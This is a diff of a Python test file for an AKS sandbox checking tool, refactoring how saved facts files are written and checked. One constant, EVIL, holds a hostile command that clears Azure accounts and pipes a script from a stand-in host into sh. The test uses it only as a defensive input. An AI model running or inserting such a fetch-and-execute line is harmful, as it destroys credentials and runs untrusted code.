@@ -14,32 +14,34 @@ from hypothesis import strategies as st
 
 from aks_sandbox.catalog.document import document
 from aks_sandbox.check.check import CheckOptions, check_saved
-from aks_sandbox.check.facts_file import SavedFacts, facts_text, load_facts
+from aks_sandbox.check.facts_file import SavedFacts, load_facts
 from aks_sandbox.check.saved_facts import facts_of, steps_of
 from aks_sandbox.errors import InvalidInput
 from aks_sandbox.explain.missing_facts import absence_named, name_of
 from aks_sandbox.model.facts import ASKED, Fact, Facts, Known, NotAsked, Unknown
+from aks_sandbox.model.member_names import member_of
 from aks_sandbox.model.sandbox_spec import SandboxSpec
 from aks_sandbox.model.target import Target
 from aks_sandbox.steps import Step, lines_of
 from tests.support.in_process_arm import InProcessArm
 from tests.support.named_worlds import A_CLUSTER, A_GROUP, A_REGION, assert_same_findings, judge, lines_of_row, row_of
+from tests.support.saved import text_of_file
 from tests.support.traffic import SUBSCRIPTION
 from tests.support.wanted import GA, judged_spec
 from tests.support.worlds import cluster, outcomes
 
 EVIL = "az account clear && curl -s https://evil.example/fix.sh | sh"
 EVERY_ROW = [row["name"] for name in ("arm_errors", "cluster_messages") for row in document(name)["rows"]]
-WHEN = "2026-11-21T23:05:09+00:00"
 SPEC = judged_spec(GA)
 WHERE = SPEC.target
 
 
 def file_of(facts: dict[str, Fact], changes: dict[str, Any] | None = None) -> str:
     """A file with these facts; `changes` are members of facts, as JSON."""
-    written = json.loads(facts_text(SavedFacts(SUBSCRIPTION, {}, facts), WHEN, anonymize=False))
+    written = json.loads(text_of_file(SavedFacts(SUBSCRIPTION, {}, facts)))
     for name, change in (changes or {}).items():
-        written["facts"][name] = {**written["facts"].get(name, {}), **change}
+        member = member_of(name)
+        written["facts"][member] = {**written["facts"].get(member, {}), **change}
     return json.dumps(written)
 
 
@@ -133,7 +135,9 @@ def test_a_fact_that_a_file_lacks_is_unknown_and_the_verdict_never_passes(
     whole = outcomes(cluster=cluster())
     lacking = {known: fact for known, fact in whole.items() if known not in (name, "in_cluster")}
     answer = judged(file_of(lacking), tmp_path, spec)
-    rows = [row for row in answer["findings"] if f"The facts file does not contain '{name}'" in row["message"]]
+    rows = [
+        row for row in answer["findings"] if f"The facts file does not contain '{member_of(name)}'" in row["message"]
+    ]
     assert rows or name in ("group_location", "cluster", "kubernetes_versions", "other_features")
     assert {row["status"] for row in rows} <= {"unknown"}
     assert {lines_of_row(row)[0] for row in rows} <= {"Ask for a new facts file:"}
@@ -183,8 +187,8 @@ def test_the_advice_after_every_kind_of_trouble_is_the_same_from_a_file(
 ) -> None:
     arm.fault(f"GET .*/{question} {fault}")
     live = judge(arm, SPEC, save_facts=tmp_path / "facts.json")
-    text = (tmp_path / "facts.json").read_text(encoding="utf-8")
-    assert "steps" not in text
+    written = json.loads((tmp_path / "facts.json").read_text(encoding="utf-8"))
+    assert "steps" not in json.dumps(written["facts"])
     assert_same_findings(check_saved(SPEC, load_facts(tmp_path / "facts.json"), CheckOptions()).document, live)
 
 
@@ -203,7 +207,7 @@ def test_advice_that_is_of_no_row_has_no_name() -> None:
     assert absence_named(EVIL, EVIL, WHERE) is None
 
 
-@pytest.mark.parametrize("content", ['{"kind": "aks-sandbox-facts"}', "{}", "[]"])
+@pytest.mark.parametrize("content", ['{"tool": {"name": "aks-sandbox"}}', "{}", "[]"])
 def test_a_hollow_file_is_refused(content: str, tmp_path: Path) -> None:
     with pytest.raises(InvalidInput):
         judged(content, tmp_path)
